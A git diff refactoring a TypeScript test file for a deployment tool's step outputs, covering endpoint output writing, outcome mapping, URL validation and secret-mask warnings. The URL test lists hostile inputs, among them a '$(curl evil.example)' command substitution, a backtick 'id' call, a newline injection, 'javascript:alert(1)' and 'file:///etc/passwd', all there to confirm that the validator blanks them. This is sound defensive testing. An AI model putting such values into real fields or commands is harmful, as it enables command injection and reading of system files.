@@ -1,11 +1,11 @@
 /** The outputs of a step: written as soon as they are known, combined over endpoints, and never in the way of anything. */
 
 import { describe, expect, test } from 'vitest';
-import { outcomeOutputs } from '../../src/commands/deploy-endpoint.ts';
+import { outcomeOutputs } from '../../src/commands/deploy-all.ts';
 import { combineFailures, StepOutputs } from '../../src/commands/outputs.ts';
 import { DeployError } from '../../src/errors.ts';
 import { type EndpointOutputs, type Outputs, openEdge } from '../../src/report.ts';
-import type { Outcome } from '../../src/rollout/rollout.ts';
+import { initialOutcome, type Outcome } from '../../src/rollout/outcome.ts';
 import { createRedactor } from '../../src/secrets/redactor.ts';
 import { endpoint, lastOutputs, recordReport } from './scene.ts';
 
@@ -71,23 +71,16 @@ test('one endpoint is the outputs of the step', () => {
   outputs.setEndpoints([{ name: 'a' }]);
   outputs.setEndpoint(0, { 'endpoint-id': 'e1', changed: 'true' });
   outputs.setEndpoint(0, { 'failure-reason': 'timeout' });
-  expect(writes()).toEqual([
-    'endpoints=[{"name":"a"}]',
-    'endpoint-id=e1',
-    'changed=true',
-    'endpoints=[{"name":"a","endpoint-id":"e1","changed":"true"}]',
-    'failure-reason=timeout',
-  ]);
+  const written = '{"name":"a","endpoint-id":"e1","changed":"true"';
+  const ofOne = ['endpoint-id=e1', 'changed=true', `endpoints=[${written}}]`, 'failure-reason=timeout'];
+  expect(writes()).toEqual(['endpoints=[{"name":"a"}]', ...ofOne]);
   outputs.finish(failure);
-  expect(writes()).toEqual(['endpoints=[{"name":"a","endpoint-id":"e1","changed":"true","failure-reason":"timeout"}]']);
+  expect(writes()).toEqual([`endpoints=[${written},"failure-reason":"timeout"}]`]);
 });
 
 test('several endpoints are the first one, and an array of all, written when one is created or written to', () => {
   const { outputs, writes } = open();
-  outputs.setEndpoints([
-    { name: 'a', plan: {} },
-    { name: 'b', plan: {} },
-  ]);
+  outputs.setEndpoints(['a', 'b'].map((name) => ({ name, plan: {} })));
   outputs.setEndpoints([{ 'image-digest': 'd1' }, { 'image-digest': 'd2' }]);
   expect(lastOutputs(writes())).toMatchObject({ 'image-digest': 'd1' });
   outputs.setEndpoint(1, { operation: 'created', url: 'https://b.example' });
@@ -106,14 +99,9 @@ test('several endpoints are the first one, and an array of all, written when one
   outputs.setEndpoint(1, { changed: 'true', state: 'serving' });
   expect(writes()).toEqual([]);
   outputs.finish(failure);
-  const written = { 'endpoint-id': 'e2', changed: 'true', state: 'serving' };
-  expect(told()).toEqual({
-    'failure-reason': 'timeout',
-    endpoints: [
-      { ...a, plan: {} },
-      { ...b, ...written, plan: {} },
-    ],
-  });
+  const written = { ...b, 'endpoint-id': 'e2', changed: 'true', state: 'serving' };
+  const endpoints = [a, written].map((each) => ({ ...each, plan: {} }));
+  expect(told()).toEqual({ 'failure-reason': 'timeout', endpoints });
 });
 
 test.for<[Outputs[], string | undefined]>([
@@ -144,79 +132,46 @@ test('failures are combined into one that names each, with its hints once and th
 });
 
 describe('an outcome', () => {
+  const found = endpoint('e1', { name: 'llama' });
   const outcome: Outcome = {
+    ...initialOutcome({ live: undefined }),
     operation: 'created',
     changed: true,
     endpointId: 'e2',
-    endpoint: undefined,
-    unconfirmed: undefined,
-    seenMs: undefined,
-    endedMs: undefined,
-    oldWorkers: 0,
-    tests: undefined,
-    failure: undefined,
-    restoreFailure: undefined,
   };
+  const created = { 'endpoint-id': 'e2', operation: 'created', changed: 'true', proof: 'none' };
+  const updated = { operation: 'updated', endpointId: 'e1', endpoint: found } as const;
+  const reading = {
+    ...{ ...created, 'endpoint-id': 'e1', url: found.url, name: 'llama', 'app-name': 'llama-app' },
+    ...{ operation: 'updated', state: 'serving', image: 'ghcr.io/acme/llama:1', 'image-digest': '' },
+  };
+  const past = { url: '', state: '', image: '' };
+  const nothing = { operation: undefined, changed: false, endpointId: undefined };
   test.for<[string, Partial<Outcome>, EndpointOutputs]>([
-    ['without a reading', {}, { 'endpoint-id': 'e2', operation: 'created', changed: 'true', proof: 'none' }],
-    [
-      'of nothing',
-      { operation: undefined, changed: false, endpointId: undefined },
-      { changed: 'false', proof: 'none' },
-    ],
-    [
-      'with a reading of the old endpoint of a replacement',
-      { endpoint: endpoint('e1', { name: 'llama' }) },
-      { 'endpoint-id': 'e2', operation: 'created', changed: 'true', proof: 'none' },
-    ],
-    [
-      'with a reading',
-      { operation: 'updated', endpointId: 'e1', endpoint: endpoint('e1', { name: 'llama' }) },
-      {
-        'endpoint-id': 'e1',
-        url: 'https://bc1a5ea6ae5677df-llama-app.runsync.example.dev',
-        name: 'llama',
-        'app-name': 'llama-app',
-        operation: 'updated',
-        changed: 'true',
-        proof: 'none',
-        state: 'serving',
-        image: 'ghcr.io/acme/llama:1',
-        'image-digest': '',
-      },
-    ],
+    ['without a reading', {}, created],
+    ['of nothing', nothing, { changed: 'false', proof: 'none' }],
+    ['with a reading of the old endpoint of a replacement', { endpoint: found }, created],
+    ['with a reading', updated, reading],
+    ['of one that is gone', { ...updated, isGone: true }, { ...reading, ...past }],
   ])('%s', ([, given, expected]) => {
     expect(outcomeOutputs({ ...outcome, ...given })).toEqual(expected);
   });
 });
 
 describe('what the service says', () => {
-  const addresses: readonly [string, string][] = [
-    ['https://e1-llama.runsync.example.dev', 'https://e1-llama.runsync.example.dev'],
-    ['http://127.0.0.1:8080/serve/e1?x=1&y=%20#z', 'http://127.0.0.1:8080/serve/e1?x=1&y=%20#z'],
-    ['', ''],
-    ...[
-      'javascript:alert(1)',
-      'https://a.example/\nINJECTED=1',
-      'https://a.example/$(curl evil.example)',
-      'https://a.example/`id`',
-      'https://a.example/ b',
-      'https://a.example/"b"',
-      "https://a.example/'b'",
-      'https://a.example/<b>',
-      'https://user:pass@a.example',
-      'https://',
-      'a.example',
-      'file:///etc/passwd',
-      `https://a.example/${'a'.repeat(3000)}`,
-    ].map((url): [string, string] => [url, '']),
-  ];
-  test.for(addresses)('in %j as a URL is %j', ([said, url]) => {
+  test.for([
+    ...['https://e1-llama.runsync.example.dev', 'http://127.0.0.1:8080/serve/e1?x=1&y=%20#z', ''],
+    ...['javascript:alert(1)', 'https://a.example/\nINJECTED=1', 'https://a.example/$(curl evil.example)'],
+    ...['https://a.example/`id`', 'https://a.example/ b', 'https://a.example/"b"', "https://a.example/'b'"],
+    ...['https://a.example/<b>', 'https://user:pass@a.example', 'https://', 'a.example', 'file:///etc/passwd'],
+    `https://a.example/${'a'.repeat(3000)}`,
+  ])('as a URL is none but one that no shell, header or markup takes for more: %j', (said) => {
     const { reporter, outputWrites, annotations } = recordReport();
     new StepOutputs(reporter).set({ url: said });
-    expect(outputWrites).toEqual([`url=${url}`]);
+    const isUrl = said === '' || /^https:\/\/e1|^http:\/\/127/.test(said);
+    expect(outputWrites).toEqual([isUrl ? `url=${said}` : 'url=']);
     expect(annotations.map(({ severity, title }) => `${severity} ${title}`)).toEqual(
-      said === url ? [] : ['warning output url'],
+      isUrl ? [] : ['warning output url'],
     );
   });
 
@@ -244,16 +199,11 @@ test('a mask that takes an output away is warned of by its key, once', () => {
   const outputs = new StepOutputs(edge);
   outputs.set({ 'endpoint-id': 'llama', url: 'https://llama.example' });
   outputs.set({ 'endpoint-id': 'llama-2', url: 'https://llama.example' });
-  expect(annotations.map(({ title, message }) => [title, message])).toEqual([
-    [
-      'output url',
-      'The output `url` contains the value of `secret-envs MODEL`: the runner shows `***` instead, and drops job outputs that contain it.',
-    ],
-    [
-      'output endpoint-id',
-      expect.stringMatching(/^The output `endpoint-id` contains the value of `secret-envs MODEL`/),
-    ],
-  ]);
+  const told = (name: string) =>
+    `The output \`${name}\` contains the value of \`secret-envs MODEL\`: the runner shows \`***\` instead, and drops job outputs that contain it.`;
+  expect(annotations.map(({ title, message }) => `${title}: ${message}`)).toEqual(
+    ['url', 'endpoint-id'].map((name) => `output ${name}: ${told(name)}`),
+  );
 });
 
 test('a flag among the secrets takes words of ours away, and is warned of; what is too short is no mask', () => {
